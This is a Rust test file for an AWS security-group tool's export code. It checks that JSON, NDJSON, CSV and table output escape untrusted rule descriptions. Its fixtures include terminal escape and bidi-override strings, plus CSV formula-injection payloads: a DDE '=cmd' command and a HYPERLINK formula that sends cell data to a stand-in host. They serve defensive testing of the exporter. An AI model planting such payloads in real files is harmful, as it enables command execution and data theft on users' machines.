use unicode_width::UnicodeWidthStr;

use super::write_rows;
use crate::cli::ExportFormat;
use crate::cmd::export::rows::{COLUMNS, Row};

/// What EC2 may hand back in a description: commas, quotes, line breaks, an escape sequence,
/// a bidi override and other control characters.
const HOSTILE: &str = "a, b \"quoted\"\nline two\r\x1b[31mred\u{202e}\u{7}\t";

fn row(rule_id: &str, description: Option<&str>) -> Row {
    Row {
        region: Some("eu-west-1".into()),
        group_id: "sg-1".into(),
        group_name: "web".into(),
        vpc_id: None,
        rule_id: Some(rule_id.into()),
        direction: "in",
        protocol: "tcp".into(),
        from_port: 22,
        to_port: 22,
        peer_kind: "cidr4",
        peer: "0.0.0.0/0".into(),
        signals: "!=".into(),
        reasons: vec!["! risky: tcp 22".into(), "= redundant: covered".into()],
        description: description.map(str::to_string),
    }
}

fn rows() -> Vec<Row> {
    vec![row("sgr-1", Some(HOSTILE)), row("sgr-2", None)]
}

/// The output of `rows` in `format`, checking the count it answers.
fn written(format: ExportFormat, rows: Vec<Row>) -> String {
    let mut out = Vec::new();
    let n = rows.len();
    assert_eq!(write_rows(format, rows.into_iter(), &mut out).unwrap(), n);
    String::from_utf8(out).unwrap()
}

#[test]
fn json_is_an_array_of_objects_one_per_line_with_control_characters_escaped() {
    let text = written(ExportFormat::Json, rows());
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 4, "{text}");
    assert_eq!((lines[0], lines[3]), ("[", "]"));
    assert!(lines[1].ends_with(','), "{text}");
    assert!(!text.bytes().any(|b| b < 0x20 && b != b'\n'), "{text:?}");
    assert!(
        lines[1].contains(r#"\"quoted\"\nline two\r\u001b[31mred"#),
        "{text}"
    );
    assert!(lines[1].contains(r#"\u0007\t""#), "{text}");
    let parsed: serde_json::Value = serde_json::from_str(&text).unwrap();
    let objects = parsed.as_array().unwrap();
    assert_eq!(objects[0]["description"], HOSTILE);
    assert_eq!(objects[0]["signals"], "!=");
    assert_eq!(objects[0]["reasons"][1], "= redundant: covered");
    assert_eq!(objects[0]["from_port"], 22);
    assert!(objects[1]["description"].is_null());
    assert!(objects[1]["vpc_id"].is_null());
    let keys: Vec<&str> = objects[0]
        .as_object()
        .unwrap()
        .keys()
        .map(String::as_str)
        .collect();
    let mut expected: Vec<&str> = COLUMNS.to_vec();
    expected.push("reasons");
    let mut sorted = keys.clone();
    sorted.sort();
    expected.sort();
    assert_eq!(sorted, expected);
}

#[test]
fn no_rows_is_an_empty_array_and_nothing_else() {
    assert_eq!(written(ExportFormat::Json, vec![]), "[]\n");
    assert_eq!(written(ExportFormat::Ndjson, vec![]), "");
    assert_eq!(
        written(ExportFormat::Csv, vec![])
            .lines()
            .collect::<Vec<_>>(),
        [COLUMNS.join(",")]
    );
    assert_eq!(written(ExportFormat::Table, vec![]).lines().count(), 1);
}

#[test]
fn ndjson_is_one_object_per_line() {
    let text = written(ExportFormat::Ndjson, rows());
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 2, "{text}");
    assert!(text.ends_with("}\n"));
    assert!(!text.contains('\x1b'));
    let first: serde_json::Value = serde_json::from_str(lines[0]).unwrap();
    assert_eq!(first["description"], HOSTILE);
    assert_eq!(first["rule_id"], "sgr-1");
    let second: serde_json::Value = serde_json::from_str(lines[1]).unwrap();
    assert_eq!(second["rule_id"], "sgr-2");
}

#[test]
fn csv_quotes_commas_quotes_and_line_breaks_and_reads_back_exactly() {
    let text = written(ExportFormat::Csv, rows());
    let expected_first = format!(
        "eu-west-1,sg-1,web,,sgr-1,in,tcp,22,22,cidr4,0.0.0.0/0,!=,\"{}\"\n",
        HOSTILE.replace('"', "\"\"")
    );
    let header = format!("{}\n", COLUMNS.join(","));
    assert!(
        text.starts_with(&(header.clone() + &expected_first)),
        "{text:?}"
    );
    assert!(
        text.ends_with("eu-west-1,sg-1,web,,sgr-2,in,tcp,22,22,cidr4,0.0.0.0/0,!=,\n"),
        "{text:?}"
    );
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    assert_eq!(reader.headers().unwrap(), COLUMNS.as_slice());
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), 2);
    assert_eq!(&records[0][12], HOSTILE);
    assert_eq!(&records[0][11], "!=");
    assert_eq!(&records[1][12], "");
}

#[test]
fn the_table_aligns_columns_and_makes_untrusted_text_inert() {
    let mut rows = rows();
    rows[1].group_name = "日本語のグループ".into();
    let text = written(ExportFormat::Table, rows);
    assert!(!text.contains('\x1b'), "{text:?}");
    assert!(!text.contains('\u{202e}'), "{text:?}");
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 3, "one line per row: {text}");
    assert!(lines[0].starts_with("REGION     GROUP_ID  GROUP_NAME        VPC_ID  RULE_ID"));
    assert!(
        lines[1].ends_with(r#"a, b "quoted"\nline two\r\x1b[31mred\u{202e}\x07\t"#),
        "{}",
        lines[1]
    );
    assert!(
        lines[2].ends_with("  -"),
        "an absent description: {}",
        lines[2]
    );
    // Every column starts at the same display column on every line.
    let start = |line: &str, word: &str| line[..line.find(word).unwrap()].width();
    for (i, word) in [(1, "sgr-1"), (2, "sgr-2")] {
        assert_eq!(start(lines[i], word), start(lines[0], "RULE_ID"), "{text}");
        assert_eq!(start(lines[i], "!="), start(lines[0], "SIGNALS"), "{text}");
    }
    assert!(lines.iter().all(|l| !l.ends_with(' ')), "{text}");
}

#[test]
fn csv_writes_a_name_or_description_a_spreadsheet_would_run_as_text() {
    assert_eq!(
        super::FREE_TEXT.map(|c| COLUMNS[c]),
        ["group_name", "description"]
    );
    let mut rows = rows();
    rows[0].group_name = "=cmd|' /C calc'!A0".into();
    rows[0].description = Some("=HYPERLINK(\"http://x.example/?\"&A1)".into());
    rows[1].group_name = "@SUM(1+1)".into();
    rows[1].description = Some("-2+3".into());
    let text = written(ExportFormat::Csv, rows);
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(&records[0][2], "'=cmd|' /C calc'!A0");
    assert_eq!(&records[0][12], "'=HYPERLINK(\"http://x.example/?\"&A1)");
    assert_eq!(&records[1][2], "'@SUM(1+1)");
    assert_eq!(&records[1][12], "'-2+3");
    // Numbers and sgtui's own marks are left as they are: a port of -1, the `=` of redundant.
    assert_eq!(&records[0][7], "22");
    assert_eq!(&records[0][11], "!=");
    for text in ["+1", "\tx", "\rx"] {
        assert_eq!(super::as_text(text), Some(format!("'{text}")));
    }
    for text in ["web", "a=b", "", "ok-1"] {
        assert_eq!(super::as_text(text), None);
    }
}
